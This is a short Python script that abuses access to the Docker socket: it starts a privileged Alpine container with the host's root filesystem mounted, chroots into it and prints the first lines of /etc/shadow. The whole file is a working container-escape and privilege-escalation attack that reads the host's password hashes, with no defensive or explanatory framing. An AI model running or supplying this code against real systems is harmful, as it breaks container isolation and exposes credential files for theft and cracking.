import subprocess

# mount host root through the docker socket
cmd = ["docker", "run", "--rm", "-v", "/:/host", "--privileged", "alpine",
       "chroot", "/host", "sh", "-c", "id && cat /etc/shadow | head -3"]
print(subprocess.run(cmd, capture_output=True, text=True).stdout)
